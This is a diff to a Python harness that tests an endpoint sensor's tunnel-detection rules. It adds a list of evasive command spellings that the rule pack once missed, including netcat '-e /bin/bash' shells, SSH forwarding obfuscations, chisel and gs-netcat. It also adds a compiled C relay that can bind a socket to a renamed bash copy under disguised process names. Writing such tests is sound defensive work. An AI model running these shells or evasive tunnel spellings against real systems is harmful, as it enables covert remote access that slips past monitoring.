@@ -7,9 +7,10 @@ A cell is a program with its arguments (tunnel_tools.py) in one way of starting 
 installed are stood in for by a file of their name (stand_in.c). An alert counts only when it is on the very process: of the
 cell, of that file, with those arguments; not when it is on a shell or wrapper around it. Cells whose program was not
 started at all are said and not counted. Harmless programs are started in the same ways, and what alerts of them is listed.
-Behaviour cells do on the network what a tunnel does, under a name and with arguments that say nothing.
+Behaviour cells do on the network what a tunnel does, under a name and with arguments that say nothing; relays do so in every
+design that a relay may have.
 
-Usage: tunnel_matrix.py SWIFTLET [--sensor auto] [--rules DIR] [--only TEXT] [--jobs 3] [--json FILE]
+Usage: tunnel_matrix.py SWIFTLET [--sensor auto] [--rules DIR] [--part all] [--only TEXT] [--jobs 3] [--json FILE]
                         [--against FILE] [--keep]
 Needs root and a C compiler. Ends with 1 when the pack sees fewer than 95 of 100 cells, when a harmless one raises an alert
 of medium or more, or when something was lost.
@@ -32,7 +33,128 @@ from tunnel_ways import PATH, WAYS, Program, runner
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 SEED = "8410ea51-e9f6-4213-93ef-806479d76b11"
+# Any program of a few minutes that listens: all copies and stand-ins are that, so it would be no merit.
+FRESH = "cc2ed6ea-119b-497f-b459-d1780d8e5359"
 WEIGHT = ["none", "low", "medium", "high", "critical"]
+
+# As in tunnel_tools.py: spellings that the pack missed once, by another's hand, most of them as copies.
+SPELLINGS = """
+ssh | ssh | -o ' LocalForward 80 h:80' far
+ssh | ssh | -N -o 'LocalForward\t80 h:80' far
+ssh | ssh | -o '"LocalForward" 80 h:80' far
+ssh | ssh | -No' dynamicforward=1080' far
+ssh | ssh | -o '=RemoteForward 9000' far
+ssh | ssh | -R 1080 far
+ssh | ssh | -NR 0.0.0.0:9000 far
+ssh | ssh | -w any root@far
+ssh | ssh | -o Tunnel=yes far
+ssh jump | scp | -J jump file far:
+ssh jump | sftp | -J jump far
+aws | aws | ssm start-session --target i --document-name AWS-StartPortForwardingSession
+tsh | tsh | proxy ssh far
+boundary | boundary | connect ssh
+firewall | firewall-cmd | --add-forward-port=port=80:proto=tcp:toport=80:toaddr=h
+firewall | iptables-nft | -t nat -A POSTROUTING -j MASQUERADE
+kernel device | ip | tunnel add g mode gre remote 192.0.2.1
+hans | hans | -c 1.1.1.1 -p x
+localtunnel | lt | --port 80 --subdomain x
+netcat | nc.traditional | -e /bin/sh 127.0.0.1 4444
+netcat | ncat | -l 4444 -e /bin/bash
+netcat | ncat | --exec /bin/bash -l 4444
+netcat | ncat | --proxy 127.0.0.1:80 h 22
+gsocket | gs-netcat | -s x -l
+Stowaway | stowaway | -c h:1 -s x
+suo5 | suo5 | -t http://h/x.jsp
+redirector | redir | --lport=80 --cport=80 --caddr=h
+redirector | envoy | -c x.yaml
+redirector | traefik | --entrypoints.x.address=:80
+chisel | chisel | server -p 80
+chisel | chisel | client h:80 3000
+wstunnel | wstunnel | -s 0.0.0.0:80
+playit | playit |
+expose | @php expose | share http://x
+lcx | portmap | -m 2 -p1 80 -h2 h -p2 80
+kcptun | client_linux_amd64 | -r h:4000 -l :8388
+"""
+
+# What RELAY does for each cell, and the name of its file: a known one must be no dodge.
+RELAYS = {
+    "forks": "svchelper", "to loopback": "svchelper", "waits 3 s": "svchelper", "named java": "java",
+    "background, forks": "svchelper", "forks, waits 3 s": "svchelper", "client, then listens": "svchelper",
+    "client, child listens": "node", "becomes a shell": "svchelper",
+}
+
+# Whoever calls it comes from an address that is not loopback's; where it leads is in the same namespace.
+RELAY = r"""
+#include <arpa/inet.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+static struct sockaddr_in at(const char *address, int port) {
+  struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
+  inet_pton(AF_INET, address, &place.sin_addr);
+  return place;
+}
+static int listener(const char *address, int port) {
+  int file = socket(AF_INET, SOCK_STREAM, 0);
+  struct sockaddr_in place = at(address, port);
+  if (bind(file, (struct sockaddr *)&place, sizeof place) || listen(file, 4)) perror("listen");
+  return file;
+}
+static int connected(const char *address, int port) {
+  int file = socket(AF_INET, SOCK_STREAM, 0);
+  struct sockaddr_in place = at(address, port);
+  if (connect(file, (struct sockaddr *)&place, sizeof place)) perror("connect");
+  return file;
+}
+static void call(const char *words) {
+  if (fork()) return;
+  usleep(100000);
+  dprintf(connected("198.51.100.1", 1080), "%s", words);
+  sleep(5);
+  _exit(0);
+}
+static void serve(int near, const char *what) {
+  call("");
+  accept(near, NULL, NULL);
+  if (strstr(what, "forks") && fork()) return;
+  if (strstr(what, "waits")) sleep(3);
+  if (strstr(what, "loopback")) connected("127.0.0.1", 8444);
+  else connected("198.51.100.1", 8443);
+  usleep(600000);
+}
+int main(void) {
+  const char *what = getenv("STAND_IN");
+  usleep(100000);
+  listener("198.51.100.1", 8443);
+  listener("127.0.0.1", 8444);
+  if (strstr(what, "client")) {
+    connected("198.51.100.1", 8443);
+    usleep(50000);
+    if (!strstr(what, "child") || fork() == 0) listener("127.0.0.1", 1081);
+  } else if (strstr(what, "shell")) {
+    int near = listener("198.51.100.1", 1080);
+    call("exit\n");
+    int file = accept(near, NULL, NULL);
+    for (int number = 0; number < 3; number++) dup2(file, number);
+    execl(getenv("STAND_IN_SHELL"), "upd", "-i", NULL);
+  } else if (strstr(what, "background")) {
+    // The listener ends, and what it left behind accepts.
+    if (fork() == 0) {
+      int near = listener("0.0.0.0", 1080);
+      if (fork()) _exit(0);
+      serve(near, what);
+    }
+  } else {
+    serve(listener("0.0.0.0", 1080), what);
+  }
+  usleep(strstr(what, "waits") ? 4500000 : 1200000);
+  return 0;
+}
+"""
 
 
 class Cell:
@@ -62,6 +184,9 @@ class Bench:
         os.chmod(self.folder, 0o755)
         for source in ("matrix_cell", "stand_in"):
             subprocess.run(["cc", "-O2", "-o", f"{self.folder}/{source}", f"{HERE}/{source}.c"], check=True)
+        subprocess.run(["cc", "-O2", "-x", "c", "-o", f"{self.folder}/relay", "-"], input=RELAY, text=True, check=True)
+        self.shell = f"{self.folder}/upd"
+        shutil.copy(os.path.realpath("/bin/bash"), self.shell)
         os.mkdir(self.folder + "/launch")
         for name in ("cron", "sudo", "systemd"):
             shutil.copy(self.folder + "/matrix_cell", f"{self.folder}/launch/{name}")
@@ -96,6 +221,15 @@ class Bench:
             for way in ("bash", "python", "service", "memory, renamed"):
                 yield Cell("behaviour", what, Program(self.stand_in("svchelper"), ["--run"]), way, what)
 
+    def relays(self):
+        for what, name in RELAYS.items():
+            for way in ("bash", "python", "service", "memory, renamed"):
+                # A file for each, for what is told once of a file would not be told again.
+                path = "/".join([self.folder, "relays", what, way, name])
+                os.makedirs(os.path.dirname(path))
+                shutil.copy(self.folder + "/relay", path)
+                yield Cell("relay", what, Program(path, ["--run"]), way, what)
+
     def remove(self):
         shutil.rmtree(self.folder, ignore_errors=True)
 
@@ -104,7 +238,7 @@ def start(bench, number, cell):
     told, words = WAYS[cell.way](cell.program, bench.folder)
     told.setdefault("expect", runner(cell.program, bench.folder))
     interpreted = cell.program.script or told["expect"] != os.path.realpath(cell.program.file)
-    told["hold"] = "1200" if cell.stand_in else "600" if interpreted or "/python" in told["expect"] else "60"
+    told["hold"] = "5000" if cell.family == "relay" else "1200" if cell.stand_in else "600" if interpreted or "/python" in told["expect"] else "60"
     # The sensor says of a script its own file; the kernel, which the cell asks, its interpreter's.
     cell.files = {told["expect"], os.path.realpath(cell.program.file), cell.program.file, words[0]}
     cell.words = words[1:] if cell.way == "renamed" else cell.program.words
@@ -112,6 +246,8 @@ def start(bench, number, cell):
     environment = {"PATH": PATH, "HOME": "/nonexistent", "LANG": "C"}
     if cell.stand_in:
         environment["STAND_IN"] = cell.stand_in
+        environment["STAND_IN_SHELL"] = bench.shell
+        cell.files |= {bench.shell} if "shell" in cell.stand_in else set()
     subprocess.run(
         [bench.folder + "/matrix_cell", f"cell-{number}"], input=b"".join(item.encode() + b"\0" for item in items),
         env=environment, cwd=bench.folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
@@ -196,7 +332,7 @@ def join(cells, watch):
         rule = at(alert, "kibana.alert.rule.rule_id")
         if rule == SEED:
             cells[number].seed = True
-        else:
+        elif cells[number].stand_in == "listen" or rule != FRESH:
             cells[number].rules[at(alert, "kibana.alert.rule.name")] = at(alert, "kibana.alert.severity")
     return kinds
 
@@ -214,7 +350,7 @@ def table(title, cells, key):
 
 
 def reason(cell, kinds):
-    if cell.family == "behaviour":
+    if cell.family in ("behaviour", "relay"):
         wanted = "file" if cell.stand_in == "tun" else "network"
         return "no rule" if wanted in kinds else f"this sensor reports no {wanted} events"
     if cell.way in ("renamed", "memory, renamed"):
@@ -249,7 +385,8 @@ def main():
     parser.add_argument("swiftlet")
     parser.add_argument("--sensor", default="auto")
     parser.add_argument("--rules", default=os.path.join(HERE, "../../rules"))
-    parser.add_argument("--only", help="lines of the list of programs that hold this text; behaviour: no programs")
+    parser.add_argument("--part", default="all", choices=["all", "tools", "spellings", "behaviour"])
+    parser.add_argument("--only", help="lines of the lists of programs that hold this text")
     parser.add_argument("--jobs", type=int, default=3)
     parser.add_argument("--json", help="write every cell to this file")
     parser.add_argument("--against", help="list the differences from a run that wrote this file with --json")
@@ -261,8 +398,11 @@ def main():
     work = tempfile.mkdtemp(prefix="tunnel-matrix-")
     watch = None
     try:
-        cells = list(bench.cells(TOOLS, options.only)) + list(bench.cells(HARMLESS, None))
-        cells += list(bench.behaviour()) if options.only in (None, "behaviour") else []
+        cells = list(bench.cells(HARMLESS, None))
+        cells += list(bench.cells(TOOLS, options.only)) if options.part in ("all", "tools") else []
+        cells += list(bench.cells(SPELLINGS, options.only)) if options.part in ("all", "spellings") else []
+        if options.part in ("all", "behaviour") and not options.only:
+            cells += list(bench.behaviour()) + list(bench.relays())
         watch = Watch(options, work)
         began = time.monotonic()
         with concurrent.futures.ThreadPoolExecutor(options.jobs) as pool:
@@ -284,12 +424,13 @@ def main():
 
 
 def report(options, cells, kinds, watch, took):
-    tools = [cell for cell in cells if cell.family not in ("control", "behaviour") and cell.started]
-    behaviour = [cell for cell in cells if cell.family == "behaviour" and cell.started]
+    tools = [cell for cell in cells if cell.family not in ("control", "behaviour", "relay") and cell.started]
+    behaviour = [cell for cell in cells if cell.family in ("behaviour", "relay") and cell.started]
     controls = [cell for cell in cells if cell.family == "control" and cell.started]
     absent = [cell for cell in cells if not cell.started]
-    table("program", tools, lambda cell: cell.family)
-    table("way", tools, lambda cell: cell.way)
+    if tools:
+        table("program", tools, lambda cell: cell.family)
+        table("way", tools, lambda cell: cell.way)
     if behaviour:
         table("behaviour", behaviour, lambda cell: cell.stand_in)
     missed = collections.defaultdict(list)
@@ -323,7 +464,7 @@ def report(options, cells, kinds, watch, took):
         compare(cells, options.against)
     loud = any(WEIGHT.index(cell.severity) >= 2 for cell in controls)
     lost = not any("nothing lost" in line or "no event lost" in line for line in watch.said)
-    return 1 if pack < 95 or loud or lost else 0
+    return 1 if (tools and pack < 95) or loud or lost else 0
 
 
 if __name__ == "__main__":
